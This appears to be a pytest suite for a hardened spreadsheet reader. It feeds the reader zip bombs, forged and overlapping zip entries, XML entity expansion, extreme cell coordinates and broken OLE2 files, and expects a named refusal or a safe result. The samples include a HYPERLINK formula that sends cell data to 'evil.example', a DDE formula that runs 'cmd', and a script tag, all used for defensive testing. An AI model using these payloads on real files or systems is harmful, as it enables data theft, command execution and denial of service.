"""Workbooks that mean harm, or came to it: a named error or a safe result, within a gigabyte and five seconds."""

import io
import struct
import zipfile

import pytest
from forged import HEAD, ROWS, SHEET, STRINGS, changed, parts, sheet, text_cell, workbook
from watched import read


@pytest.fixture
def told(tmp_path):
    def told(content, name="roster.xlsx", **limits):
        path = tmp_path / name
        path.write_bytes(content)
        return read(path, **limits)

    return told


def test_an_honest_workbook_is_read_without_a_remark(told):
    found = told(workbook())
    assert (found.code, found.remarks, found.grids) == ("", [], [ROWS])


def test_a_cell_at_the_far_corner_is_named(told):
    found = told(workbook(lambda _, s: s.write(1_048_575, 16_383, "x")))
    assert (found.code, found.params["cell"], found.params["sheet"]) == ("file_cell_far", "XFD1048576", "花名册")


@pytest.mark.parametrize(
    "cell",
    [
        b"<c r='XFD1048576'><v>1</v></c>",
        b'<c  s="0"\n r = "XFD1048576"><v>1</v></c>',
        b'<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="XFD1048576"><x:v>1</x:v></x:c>',
        b'<c r="xfd1048576"><v>1</v></c>',
        b'<c r="A99999999999999999999"><v>1</v></c>',
        b'<c r="ZZZZZZZZZ1"><v>1</v></c>',
    ],
)
def test_a_far_corner_in_any_writing_is_refused_or_harmless(told, cell):
    found = told(sheet(b'<row r="1">' + text_cell("A1", "a") + cell + b"</row>"))
    assert found.code in {"file_cell_far", "file_damaged"}


def test_a_far_row_whose_cells_have_no_place_is_refused(told):
    found = told(sheet(b'<row r="1"><c><v>1</v></c></row><row r="1048576">' + b"<c><v>1</v></c>" * 200 + b"</row>"))
    assert found.code in {"file_cell_far", "file_too_costly"}


def test_formats_far_below_the_table_are_no_cells(told):
    blank = b"".join(
        b'<row r="%d" s="1"><c r="A%d" s="1"/><c r="XFD%d" s="1"></c></row>' % (n, n, n) for n in (9, 1_048_576)
    )
    found = told(sheet(b'<row r="1">' + text_cell("A1", "姓名") + b"</row>" + blank))
    assert (found.code, found.grids) == ("", [[["姓名"]]])


def test_a_million_blank_styled_rows_are_read_as_none(told):
    rows = b"".join(
        b'<row r="%d" s="1"><c r="A%d" s="1"/><c r="B%d" s="1"/></row>' % (n, n, n) for n in range(2, 1_000_002)
    )
    found = told(sheet(b'<row r="1">' + text_cell("A1", "姓名") + b"</row>" + rows))
    assert (found.code, found.grids) == ("", [[["姓名"]]])


def test_a_stated_dimension_is_not_believed(told):
    found = told(
        sheet(b'<row r="1">' + text_cell("A1", "姓名") + b"</row>", before=b'<dimension ref="A1:XFD1048576"/>')
    )
    assert (found.code, found.grids) == ("", [[["姓名"]]])


def test_a_zip_bomb_is_refused_from_its_directory_and_the_limit_is_the_configs(told):
    bomb = changed(workbook(), {"xl/media/x.xml": b" " * (80 << 20)})
    assert told(bomb).code == "file_unpacks_too_large"
    assert told(bomb, max_unpacked_mb=100).grids == [ROWS]
    assert told(workbook(), max_file_mb=1).code == ""


def lying(content, name, size):
    """The archive with another unpacked size of a part, in its directory and before the part."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo(name)
    raw = bytearray(content)
    struct.pack_into("<I", raw, info.header_offset + 22, size)
    at = raw.rindex(b"PK\x01\x02", 0, raw.rindex(name.encode()))
    struct.pack_into("<I", raw, at + 24, size)
    return bytes(raw)


@pytest.mark.parametrize("size", [0, 10, 50 << 20])
def test_a_size_that_lies_is_a_damaged_file(told, size):
    assert told(lying(workbook(), SHEET, size)).code == "file_damaged"


def test_parts_that_share_their_bytes_are_refused(told):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts(workbook()).items():
            archive.writestr(name, part)
        copy = zipfile.ZipInfo("xl/again.xml")
        shared = archive.getinfo(SHEET)
        for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
            setattr(copy, field, getattr(shared, field))
        archive.filelist.append(copy)
    found = told(made.getvalue())
    assert (found.code, found.params["reason"]) == ("file_forged", "parts overlap")


def test_two_parts_of_one_name_are_refused(told):
    made = io.BytesIO(workbook())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(made, "a") as archive:
        archive.writestr(SHEET, b"<worksheet/>")
    assert told(made.getvalue()).code == "file_forged"


def test_ten_thousand_parts_are_refused(told):
    assert told(changed(workbook(), {f"x/{n}": b"" for n in range(10_000)})).code == "file_forged"


def test_a_workbook_inside_a_workbook_is_left_alone(told):
    assert told(changed(workbook(), {"xl/embeddings/inner.xlsx": workbook()})).grids == [ROWS]


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'


@pytest.mark.parametrize("part", [SHEET, STRINGS, "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"])
def test_entities_are_refused_in_every_part(told, part):
    found = told(changed(workbook(), {part: lambda xml: ENTITIES + xml.partition(b"?>")[2]}))
    assert (found.code, found.params["reason"]) == ("file_forged", "document type or entities")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_sheet_in_another_encoding_cannot_hide_its_far_corner(told, encoding):
    xml = (HEAD + b'<sheetData><row><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>').decode()
    assert told(changed(workbook(), {SHEET: xml.encode(encoding)})).code == "file_forged"


def test_ten_megabytes_in_a_cell_are_refused(told):
    assert told(sheet(b"<row>" + text_cell("A1", "a" * 10_000_000) + b"</row>")).code == "file_cell_too_long"
    strings = changed(workbook(), {STRINGS: lambda xml: xml.replace("示例甲".encode(), b"a" * 10_000_000)})
    assert told(strings).code == "file_cell_too_long"


def test_a_cell_longer_than_a_spreadsheet_keeps_is_named_by_its_row(told):
    found = told(sheet(b'<row r="4">' + text_cell("A4", "甲" * 40_000) + b"</row>"))
    assert (found.code, found.params["row"]) == ("file_cell_too_long", "4")


def test_one_long_text_in_a_million_cells_ends_the_child_and_not_the_program(told):
    cells = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, 200_001))
    content = changed(sheet(cells), {STRINGS: lambda xml: xml.replace("姓名".encode(), b"a" * 30_000, 1)})
    assert told(content).code == "file_too_costly"


def test_a_million_merged_blocks_are_refused_or_read(told):
    merges = b'<mergeCells count="300000">' + b'<mergeCell ref="A1:A1048576"/>' * 300_000 + b"</mergeCells>"
    found = told(sheet(b'<row r="1">' + text_cell("A1", "姓名") + b"</row>", after=merges))
    assert found.code in {"", "file_too_costly"}


def test_macros_and_links_to_other_workbooks_are_left_aside_and_told(told):
    more = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros", "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
    found = told(changed(workbook(), more), "roster.xlsm")
    assert (found.code, found.grids) == ("", [ROWS])
    assert set(found.remarked) == {"macros_ignored", "external_links"}


def test_formulas_are_their_last_values(told):
    def fill(_, sheet):
        sheet.write_formula(3, 0, '=HYPERLINK("http://evil.example/?"&B2,"点我")', None, "点我")
        sheet.write_formula(4, 0, "=cmd|'/c calc'!A1", None, "")

    assert told(workbook(fill)).grids == [[*ROWS, ["点我", ""]]]


@pytest.mark.parametrize("number", ["NaN", "inf", "-inf", "1e999"])
def test_a_number_that_is_none_is_a_word(told, number):
    found = told(sheet(f'<row r="1"><c r="A1"><v>{number}</v></c></row>'.encode()))
    assert found.grids == [[["-inf" if "-" in number else "nan" if number == "NaN" else "inf"]]]


@pytest.mark.parametrize("share", [1, 30, 60, 95, 99.9])
def test_a_file_cut_short_says_so(told, share):
    content = workbook()
    assert told(content[: max(4, int(len(content) * share / 100))]).code == "file_truncated"


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 no archive", b"PK\x05\x06"])
def test_the_beginning_of_a_workbook_is_one_cut_short(told, content):
    assert told(content).code == "file_truncated"


def test_bytes_changed_on_the_way_are_a_damaged_file(told):
    raw = bytearray(workbook())
    at = raw.index(SHEET.encode()) + len(SHEET) + 30
    raw[at : at + 8] = bytes(8)
    assert told(bytes(raw)).code == "file_damaged"


def test_a_workbook_with_a_password_says_how_to_take_it_off(told):
    msoffcrypto = pytest.importorskip("msoffcrypto.format.ooxml")
    locked = io.BytesIO()
    msoffcrypto.OOXMLFile(io.BytesIO(workbook())).encrypt("geheim", locked)
    assert told(locked.getvalue()).code == "file_encrypted"


def test_an_archive_with_a_password_is_no_workbook(told):
    raw = bytearray(workbook())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(mark, at + 1)
    assert told(bytes(raw)).code == "file_encrypted"


@pytest.mark.parametrize("content", [b"%PDF-1.7 x", b"\x89PNG\r\n\x1a\n", b"\x1f\x8b\x08", b"Rar!\x1a", b"{\\rtf1 x}"])
@pytest.mark.parametrize("name", ["roster.xlsx", "roster.csv"])
def test_another_programs_file_is_no_table(told, content, name):
    assert told(content, name).code == "file_kind"


def test_an_archive_or_compound_that_is_no_workbook_is_no_table(told):
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    assert told(other.getvalue()).code == "file_kind"


def test_a_workbook_of_2003_in_one_file_of_xml_is_refused_by_its_kind(told):
    xml = b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
    assert told(xml, "roster.xls").code == "file_kind"


def test_text_named_as_a_workbook_is_read_as_text(told):
    found = told("姓名\t身份证号\n示例甲\t140829199001010000\n".encode("gb18030"), "roster.xls")
    assert (found.grids, found.remarked) == ([ROWS[:2]], ["named_otherwise_text"])


def test_a_workbook_named_as_text_is_read_as_a_workbook(told):
    found = told(workbook(), "roster.csv")
    assert (found.grids, found.remarked) == ([ROWS], ["named_otherwise_archive"])


PAGE = """<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head><body>
<table><tr><th>姓名</th><th>身份证号</th></tr>
<tr><td rowspan=2>示例甲 &amp; 乙<script>alert(1)</script></td><td>140829199001010000</td></tr>
<tr><td colspan="999999999">140829199002010000<br>x</td></tr></table></body></html>"""


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_a_web_page_named_as_a_workbook_keeps_its_id_numbers(told, encoding):
    found = told(PAGE.encode(encoding), "roster.xls")
    (grid,) = found.grids
    assert [row[1] for row in grid] == ["身份证号", "140829199001010000", "140829199002010000 x"]
    assert [row[0][:3] for row in grid] == ["姓名", "示例甲", "示例甲"]
    assert found.remarked == ["named_otherwise_markup"]


def test_a_page_of_endless_cells_is_refused(told):
    page = b"<table>" + b"<tr>" + b"<td colspan=200 rowspan=200>" * 200_000
    assert told(page, "roster.xls").code in {"file_too_many_cells", "file_too_costly"}


def compound(entries):
    """An OLE2 file whose directory is a chain of left siblings and nothing else."""
    none, end, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    sectors = -(-entries // 4)
    fats = -(-(sectors + 8) // 128)
    head = struct.pack("<8s16sHHHHHH", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, 0)
    head += struct.pack("<LLLLLLLLLL", 0, 0, fats, fats, 0, 4096, end, 0, end, 0)
    head += struct.pack("<109L", *range(fats), *[none] * (109 - fats))
    table = [fat_sector] * fats + [fats + n + 1 for n in range(sectors - 1)] + [end]
    table += [none] * (128 * fats - len(table))

    def entry(name, kind, left, child):
        words = name.encode("utf-16-le") + b"\0\0"
        begin = end if kind == 5 else 0
        tail = struct.pack("<III16sIQQIII", left, none, child, b"", 0, 0, 0, begin, 0, 0)
        return struct.pack("<64sHBB", words, len(words), kind, 1) + tail

    rows = [entry("Root Entry", 5, none, 1)]
    rows += [entry(f"E{n:06}", 2, n + 1 if n + 1 < entries else none, none) for n in range(1, entries)]
    return head + struct.pack(f"<{len(table)}L", *table) + b"".join(rows).ljust(512 * sectors, b"\0")


def test_an_old_workbook_whose_directory_is_one_long_chain_is_damaged(told):
    assert told(compound(2_000), "roster.xls").code == "file_damaged"
    assert told(compound(20), "roster.xls").code == "file_kind"
